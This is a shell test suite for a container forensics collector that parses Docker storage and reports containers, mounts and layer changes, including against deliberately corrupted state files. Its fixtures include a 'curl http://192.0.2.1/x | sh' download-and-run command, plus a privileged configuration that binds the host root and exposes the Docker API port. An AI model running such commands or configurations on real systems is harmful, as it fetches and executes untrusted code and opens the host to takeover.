. "$(dirname "$0")/lib.sh"
. "$TESTS/stores/lib.sh"

run() { "$BIN/collect-containers" "$@" >"$T/rec" 2>"$T/msg"; echo $?; }
notes() { records "$T/rec" note "[.class, .detail // \"\", .path // \"\"] | join(\" \")" | tr -d '"'; }
changes() { records "$T/rec" change '[.op,.type,.path]|join(" ")' | tr -d '"' | tr '\n' ';'; }

# ---- what a real engine wrote, field by field
if have_stores; then
	for s in docker-clean docker-hostile; do
		unpack_store $s "$T/$s"
		E=$TESTS/fixtures/store-$s/engine
		is "$s: exit" "$(run -r "$T/$s")" 0
		cp "$T/rec" "$T/$s.1"
		ok "$s: containers and mounts are what the engine says" \
			python3 "$TESTS/stores/compare.py" containers "$E" "$T/$s.1" /
		ok "$s: changes are those of docker diff, in order" \
			python3 "$TESTS/stores/compare.py" changes "$E" "$T/$s.1" /
		is "$s: no evidence lost" "$(records "$T/$s.1" note 'select(.lost)')" ""
		run -r "$T/$s" >/dev/null
		is "$s: the same again" "$(volatile <"$T/rec" | sha256sum)" "$(volatile <"$T/$s.1" | sha256sum)"
		taskset -c 0 "$BIN/collect-containers" -r "$T/$s" >"$T/rec" 2>"$T/msg"
		is "$s: one processor gives the same" "$(volatile <"$T/rec" | sha256sum)" "$(volatile <"$T/$s.1" | sha256sum)"
	done
	is "the image name that only a container remembers" \
		"$(records "$T/docker-hostile.1" container 'select(.name=="forgotten")|.image_ref')" '"docker123321/cron:latest"'
	is "the bind of a container that never started" \
		"$(records "$T/docker-hostile.1" mount 'select(.destination=="/mnt/root")|[.source,.rw]')" '["/root",true]'
	is "a created container never started" \
		"$(records "$T/docker-hostile.1" container 'select(.name=="ssh")|[.state,.started_time]')" '["created",null]'
	like "the cron file in the container's own layer" \
		"$(records "$T/docker-hostile.1" change 'select(.path=="/etc/cron.d/x")|[.op,.type,.host_path]')" '^\["added","file","/overlay2/[0-9a-f]{64}/diff/etc/cron.d/x"\]$'
	is "a link's target" "$(records "$T/docker-clean.1" change 'select(.path=="/etc/broken")|[.type,.target]')" '["symlink","nowhere"]'
	is "a name that is no UTF-8" "$(records "$T/docker-clean.1" change 'select(.path_b64)|.path_b64' | tr -d '"' | base64 -d | od -An -c | tr -d ' \n')" '/tmp/377033[31m'
	is "a deleted file says what it was" "$(records "$T/docker-clean.1" change 'select(.op=="deleted")|[.type,.path,.host_path]' | head -n 1)" '["file","/etc/default/locale",null]'

	# Bytes changed, time put back: docker diff is silent, we are not.
	S=$T/docker-clean
	up=$S$(records "$T/docker-clean.1" container 'select(.name=="twice")|.host_path' | tr -d '"')
	low=$(ls -d "$S"/overlay2/*/diff/etc/os-release | head -n 1)
	mkdir -p "$up/etc"
	cp -p "$low" "$up/etc/os-release"
	touch -r "${low%/os-release}" "$up/etc"
	run -r "$S" >/dev/null
	is "copied up, but the same: no change" "$(records "$T/rec" change 'select(.path=="/etc/os-release")')" ""
	sed 's/Debian/debian/' "$low" >"$up/etc/os-release"
	touch -r "$low" "$up/etc/os-release"
	run -r "$S" >/dev/null
	is "changed, and its time put back: told of" "$(records "$T/rec" change 'select(.path=="/etc/os-release")|.op')" '"modified"'
	# Without SYS_ADMIN opaque directories look like others.
	setpriv --bounding-set -sys_admin --inh-caps -sys_admin "$BIN/collect-containers" -r "$S" >"$T/rec" 2>"$T/msg"
	is "without SYS_ADMIN: exit" $? 1
	is "without SYS_ADMIN: one note" "$(records "$T/rec" note 'select(.op=="xattr")|.class' | tr '\n' ' ')" '"denied" '
else
	skip "real stores" "needs root and a file system with devices and trusted attributes"
fi

# ---- a store made by hand
tiny_store "$T/s"
is "tiny store: exit" "$(run -r "$T/s")" 0
is "tiny store: container" "$(records "$T/rec" container '[.name,.image_ref,.state,.command,.host_path,.config_path]')" \
	"[\"one\",\"app:1\",\"exited\",\"run it\",\"/overlay2/upper/diff\",\"/containers/$CID/config.v2.json\"]"
is "tiny store: mount" "$(records "$T/rec" mount '[.type,.source,.destination,.rw,.options]')" '["bind","/etc","/mnt/etc",false,"ro"]'
is "tiny store: changes" "$(changes)" "modified directory /app;modified file /app/file;"

# spoil WHAT PATTERN COMMAND: in a fresh store ($T/s), COMMAND, expect a note
spoil() {
	rm -rf "$T/s"
	tiny_store "$T/s"
	_i=$T/s/image/overlay2 _c=$T/s/containers/$CID _m=$T/s/image/overlay2/layerdb/mounts/$CID
	eval "$3"
	is "$1: exit" "$(run -r "$T/s")" 1
	like "$1: note" "$(notes)" "$2"
	is "$1: the run is whole" "$(records "$T/rec" end .k)" '"end"'
}
ROW='modified directory /app;modified file /app/file;'
config() { printf '%s' "$1" >"$_c/config.v2.json"; }

spoil "state truncated" "^corrupt is no JSON.*config.v2.json" 'truncate -s 77 "$_c/config.v2.json"'
is "state truncated: its layer is read" "$(changes)" "$ROW"
spoil "state gone" "^corrupt is missing: the container was removed" 'rm "$_c/config.v2.json"'
is "state gone: row" "$(records "$T/rec" container .container_id)" "\"$CID\""
is "state gone: its layer is read" "$(changes)" "$ROW"
spoil "container removed, its layer left" "^corrupt is missing" 'rm -r "$_c"'
is "container removed: its layer is read" "$(changes)" "$ROW"
spoil "state of an old Docker, spoiled" "^corrupt is no JSON.*/config.json" 'truncate -s 77 "$_c/config.v2.json"; mv "$_c/config.v2.json" "$_c/config.json"'
spoil "state is a FIFO" "^corrupt .*is a FIFO" 'rm "$_c/config.v2.json"; mkfifo "$_c/config.v2.json"'
spoil "state of 1 GiB" "^limit longer than" 'truncate -s 1G "$_c/config.v2.json"'
spoil "state very deep" "^limit nested deeper" 'head -c 100000 /dev/zero | tr "\0" "[" >"$_c/config.v2.json"'
spoil "state is a number" "^corrupt is no JSON" 'config 7'
spoil "wrong types" "^corrupt [0-9]+ values are not" 'config "{\"ID\":[],\"Name\":{},\"Args\":{\"a\":1},\"State\":[],\"Config\":3,\"MountPoints\":{\"/x\":5},\"NetworkSettings\":true}"'
spoil "state of another container" "^corrupt is the state of another" 'sed -i "s/$CID/x/" "$_c/config.v2.json"'
spoil "image id that is none" "^corrupt names no image id" 'sed -i "s/sha256:$IMG/..\/x/" "$_c/config.v2.json"'
spoil "time out of range" "^corrupt a time is none" 'sed -i "s/2026-03-05T00:00:01Z/2500-03-05T00:00:01Z/" "$_c/config.v2.json"'
spoil "another driver" "^corrupt says that its files are in the storage driver .btrfs" 'sed -i s/overlay2/btrfs/ "$_c/config.v2.json"'
is "another driver: its layer is read" "$(changes)" "$ROW"
spoil "a driver without directories" "^unsupported its files are in the storage driver .zfs" 'sed -i s/overlay2/zfs/ "$_c/config.v2.json"; mv "$_i" "$_i/../zfs"'
is "a driver without directories: row" "$(records "$T/rec" container '[.name,.driver,.host_path]')" '["one","zfs",null]'
spoil "host settings gone" "^corrupt .*hostconfig.json" 'rm "$_c/hostconfig.json"'
is "host settings gone: row" "$(records "$T/rec" container '[.name,.privileged]')" '["one",null]'
spoil "host settings truncated" "^corrupt is no JSON.*hostconfig" 'truncate -s 9 "$_c/hostconfig.json"'
spoil "a bind of no path" "^corrupt [0-9]+ values are not" 'echo "{\"Binds\":[\"nonsense\",7]}" >"$_c/hostconfig.json"'
spoil "container directory is a link" "^corrupt is no directory; not read" 'mkdir "$T/x$N"; mv "$_c" "$T/x$N/c"; ln -s "$T/x$N/c" "$_c"'
spoil "a directory of another name" "^corrupt its name is no id" 'mkdir "$T/s/containers/backup"'
spoil "mount-id that climbs" "^corrupt .*names no layer" 'printf ../../../../etc >"$_m/mount-id"'
spoil "mount-id gone" "^corrupt .*mount-id" 'rm "$_m/mount-id"'
is "mount-id gone: row" "$(records "$T/rec" container '[.name,.host_path]')" '["one",null]'
spoil "own layer gone" "^corrupt layer '/overlay2/upper/diff' is missing" 'rm -r "$T/s/overlay2/upper/diff"'
spoil "link of a layer gone" "^corrupt layer '/overlay2/l/B+' is missing" 'rm "$T/s/overlay2/l/BBBBBBBBBBBBBBBBBBBBBBBBBB"'
is "link of a layer gone: found another way" "$(changes)" "$ROW"
spoil "link of a layer to itself" "^corrupt layer '/overlay2/l/B+' is missing" 'ln -sfn BBBBBBBBBBBBBBBBBBBBBBBBBB "$T/s/overlay2/l/BBBBBBBBBBBBBBBBBBBBBBBBBB"'
is "link of a layer to itself: found another way" "$(changes)" "$ROW"
mkdir -p "$T/outside/app"
spoil "link of a layer out of the store" "^corrupt layer '/overlay2/l/B+' is missing" 'ln -sfn "$T/outside" "$T/s/overlay2/l/BBBBBBBBBBBBBBBBBBBBBBBBBB"'
is "link of a layer out of the store: found another way" "$(changes)" "$ROW"
spoil "lower gone" "^corrupt '/overlay2/upper/lower' cannot be read" 'rm "$T/s/overlay2/upper/lower"'
is "lower gone: found another way" "$(changes)" "$ROW"
spoil "lower of nonsense" "^corrupt .*holds a name that is none" 'printf "l/../../../etc:x::l/BBBBBBBBBBBBBBBBBBBBBBBBBB" >"$T/s/overlay2/upper/lower"'
is "lower of nonsense: found another way" "$(changes)" "$ROW"
spoil "lower of 1 GiB" "^corrupt .*cannot be read" 'truncate -s 1G "$T/s/overlay2/upper/lower"'
spoil "both gone, parents in a circle" "^corrupt " 'rm "$T/s/overlay2/upper/lower"; printf %s "$C2" >"$_i/layerdb/sha256/${C1#sha256:}/parent"; rm -r "$T/s/overlay2/layer1"'
rm -rf "$T/s"
tiny_store "$T/s"
printf 'l/BBBBBBBBBBBBBBBBBBBBBBBBBB:l/BBBBBBBBBBBBBBBBBBBBBBBBBB:l/AAAAAAAAAAAAAAAAAAAAAAAAAA:l/BBBBBBBBBBBBBBBBBBBBBBBBBB' >"$T/s/overlay2/upper/lower"
is "the same layer more than once" "$(run -r "$T/s") $(changes)" "0 $ROW"
yes l/BBBBBBBBBBBBBBBBBBBBBBBBBB | head -n 2000 | tr '\n' : | head -c 57999 >"$T/s/overlay2/upper/lower"
is "two thousand layers" "$(run -r "$T/s") $(changes)" "0 $ROW"

# ---- two containers, one of them lost: the other is not
rm -rf "$T/s"
tiny_store "$T/s"
O=$(tiny_digest other)
mkdir "$T/s/containers/$O"
head -c 4096 /dev/urandom >"$T/s/containers/$O/config.v2.json"
is "noise beside it: exit" "$(run -r "$T/s")" 1
is "noise beside it: the other" "$(records "$T/rec" container 'select(.name)|.name')" '"one"'

# ---- exact bytes
rm -rf "$T/s"
tiny_store "$T/s"
_c=$T/s/containers/$CID
printf '{"ID":"%s","Name":"/o\377ne","Path":"sh","Args":["-c","curl http://192.0.2.1/x\377 | sh\\u0000\\ud83d"],"Config":{"Env":["A=\377"],"Labels":{"k\377":"v"}},"MountPoints":{"/m\377":{"Source":"/e\377tc","RW":true}}}' "$CID" >"$_c/config.v2.json"
run -r "$T/s" >/dev/null
is "command: exact bytes" "$(records "$T/rec" container .command_b64 | tr -d '"' | base64 -d | od -An -tx1 | tr -d ' \n')" \
	"$(printf 'sh -c curl http://192.0.2.1/x\377 | sh\000\355\240\275' | od -An -tx1 | tr -d ' \n')"
is "label, mount: exact bytes" "$(records "$T/rec" container .labels_b64 | tr -d '"' | base64 -d | od -An -tx1 | tr -d ' \n') $(records "$T/rec" mount 'select(.source_b64)|[.source_b64,.destination_b64]')" \
	'6bff3d7600 ["L2X/dGM=","L23/"]'
printf 'x\ny\033[31m' >"$T/s/overlay2/upper/diff/$(printf 'new\nline\033[31m')"
run -r "$T/s" >/dev/null
is "a name with a newline" "$(records "$T/rec" change 'select(.op=="added")|.path')" '"/new\nline\u001b[31m"'

# ---- states
for s in running:'"Running":true' paused:'"Running":true,"Paused":true' \
	restarting:'"Running":true,"Restarting":true' removing:'"RemovalInProgress":true' \
	dead:'"Dead":true' created:'"StartedAt":"0001-01-01T00:00:00Z"' exited:'"StartedAt":"2026-01-01T00:00:00Z"'; do
	printf '{"State":{%s}}' "${s#*:}" >"$_c/config.v2.json"
	run -r "$T/s" >/dev/null
	is "state ${s%%:*}" "$(records "$T/rec" container .state)" "\"${s%%:*}\""
done
printf '{"Binds":["/:/host","/etc//:/mnt/etc/:rw,z","vol:/v:ro","/a:/b:ro,rslave"],"Mounts":[{"Type":"bind","Source":"/etc/","Target":"/mnt/etc"},{"Type":"bind","Source":"/root","Target":"/r","ReadOnly":true},{"Type":"bind","Source":"/home","Target":"/b","ReadOnly":true}],"Tmpfs":{"/t":"size=1m"},"Privileged":true,"Devices":[{"PathOnHost":"/dev/sda","PathInContainer":"/dev/x","CgroupPermissions":"rwm"}],"PortBindings":{"2375/tcp":[{"HostIp":"","HostPort":"2375"},{"HostIp":"::1","HostPort":"1"}]}}' >"$_c/hostconfig.json"
run -r "$T/s" >/dev/null
is "mounts that only hostconfig has" "$(records "$T/rec" mount '[.type,.source,.destination,.rw,.name]|join(" ")' | tr '\n' ';')" \
	'"bind /a /b false ";"bind /home /b false ";"bind / /host true ";"bind /etc /mnt/etc true ";"bind /root /r false ";"tmpfs  /t true ";"volume /volumes/vol/_data /v false vol";'
is "ports, devices" "$(records "$T/rec" container '[.ports,.devices,.privileged]')" \
	'["[\"0.0.0.0:2375->2375/tcp\",\"[::1]:1->2375/tcp\"]","[\"/dev/sda:/dev/x:rwm\"]",true]'

# ---- options
status "no such root" 3 "$BIN/collect-containers" -r "$T/none"
status "unknown option" 2 "$BIN/collect-containers" --nonsense
echo x >"$T/file"
is "a file that is no archive: exit" "$(run -r "$T/file")" 1
like "-L lists the places" "$("$BIN/collect-containers" -L)" "^containerd +/var/lib/containerd "
finish
